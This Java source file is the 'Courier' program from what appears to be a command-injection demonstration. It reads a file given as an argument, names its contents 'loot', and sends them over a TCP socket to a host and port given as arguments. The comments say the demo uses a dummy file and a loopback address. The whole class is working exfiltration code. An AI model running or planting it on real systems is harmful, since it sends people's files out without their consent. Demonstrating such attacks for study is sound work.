package dev.quintai.daemon.demo;

import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;

/**
 * The program that the injected line starts: it reads a file and carries it to an address. In the
 * demonstration the file holds nothing real and the address is on loopback.
 */
public final class Courier {

  private Courier() {}

  /** Carries the file {@code args[0]} to the port {@code args[2]} of the host {@code args[1]}. */
  public static void main(String[] args) throws IOException {
    byte[] loot = Files.readAllBytes(Path.of(args[0]));
    try (Socket socket = new Socket(args[1], Integer.parseInt(args[2]));
        OutputStream out = socket.getOutputStream()) {
      out.write(loot);
      socket.shutdownOutput();
      socket.getInputStream().readAllBytes(); // until it has been taken
    }
  }
}
